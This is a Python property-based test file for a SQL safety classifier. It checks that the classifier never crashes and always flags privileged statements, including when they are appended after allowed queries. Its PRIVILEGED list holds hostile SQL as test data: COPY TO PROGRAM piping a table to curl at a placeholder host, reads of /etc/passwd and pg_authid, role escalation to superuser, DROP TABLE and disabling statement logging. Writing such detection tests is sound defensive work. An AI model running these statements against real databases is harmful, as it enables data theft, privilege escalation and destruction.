"""Properties: the classifier never raises, and nothing hides behind an allowed statement."""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from protocols.classification import Category, Classification
from protocols.sql import LexingState, SqlClassifierCache, analyze_sql, classify_sql

CORPUS = Path(__file__).resolve().parents[2] / "corpus" / "sql_corpus.jsonl"
ALLOWED = [
    case["text"]
    for case in map(json.loads, CORPUS.read_text("utf-8").splitlines())
    if case["expect"] == "allow"
]

PRIVILEGED = [
    "GRANT ALL ON users TO bob",
    "REVOKE admin FROM bob",
    "DROP TABLE users",
    "TRUNCATE users",
    "DELETE FROM users",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SELECT set_config('role', 'postgres', false)",
    "SET standard_conforming_strings = off",
    "COPY users TO PROGRAM 'curl -T - http://x'",
    "COPY users TO STDOUT",
    "DO $$ BEGIN END $$",
    "CALL p()",
    "ALTER SYSTEM SET log_statement = 'none'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_authid",
    "CREATE ROLE eve SUPERUSER",
    "CREATE EXTENSION dblink",
    "EXECUTE not_prepared",
    "SELECT pg_terminate_backend(1)",
    "ALTER TABLE t OWNER TO bob",
    "CREATE TABLE x (a int)",
]
SEPARATORS = [";", "; ", ";\n", "\n;", " ;/* c */ ", ";;", "; -- x\n"]

SQL_TOKENS = [
    "SELECT", "FROM", "WHERE", "DELETE", "UPDATE", "SET", "GRANT", "DROP", "TABLE", "t",
    "1", "'a'", "E'\\''", "$$", "$x$", "/*", "*/", "--", "\n", ";", "(", ")", ",", "=",
    "U&\"\\0070g\"", "\"q\"", "ROLE", "COPY", "TO", "STDOUT", "PROGRAM", "DO", "AND", "OR",
    "true", "pg_read_file", "set_config", "EXPLAIN", "ANALYZE", "WITH", "AS", "PREPARE",
    "EXECUTE", "p", "\\", "'", "\"", "INTO", "RETURNING", "*",
]  # fmt: skip


def valid(result: Classification) -> bool:
    if not isinstance(result, Classification):
        return False
    if not all(isinstance(c, Category) for c in result.categories):
        return False
    if result.categories == {Category.UNKNOWN}:
        return bool(result.reasons)
    return result.benign or bool(result.reasons)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.text())
def test_never_raises_on_any_text(text: str) -> None:
    assert valid(classify_sql(text))


@settings(max_examples=300, deadline=None)
@given(st.binary())
def test_random_bytes_give_unknown_or_valid(data: bytes) -> None:
    for text in (data.decode("utf-8", "replace"), data.decode("utf-8", "surrogateescape")):
        result, _ = analyze_sql(text)
        assert valid(result)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(SQL_TOKENS), max_size=25).map(" ".join))
def test_sql_like_token_soup(text: str) -> None:
    result = classify_sql(text)
    assert valid(result)
    assert SqlClassifierCache().classify(text) == result
    assert classify_sql(text, LexingState(False)).categories == {Category.UNKNOWN}


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from(ALLOWED),
    st.sampled_from(SEPARATORS),
    st.sampled_from(PRIVILEGED),
)
def test_appending_a_privileged_statement_always_flags(
    allowed: str, sep: str, privileged: str
) -> None:
    assert classify_sql(allowed).benign
    last_line = allowed.rsplit("\n", 1)[-1]
    if "--" in last_line:  # a trailing line comment would swallow what follows
        sep = "\n" + sep
    assert not classify_sql(allowed + sep + privileged).benign


def test_privileged_list_is_flagged_alone() -> None:
    for text in PRIVILEGED:
        assert not classify_sql(text).benign, text
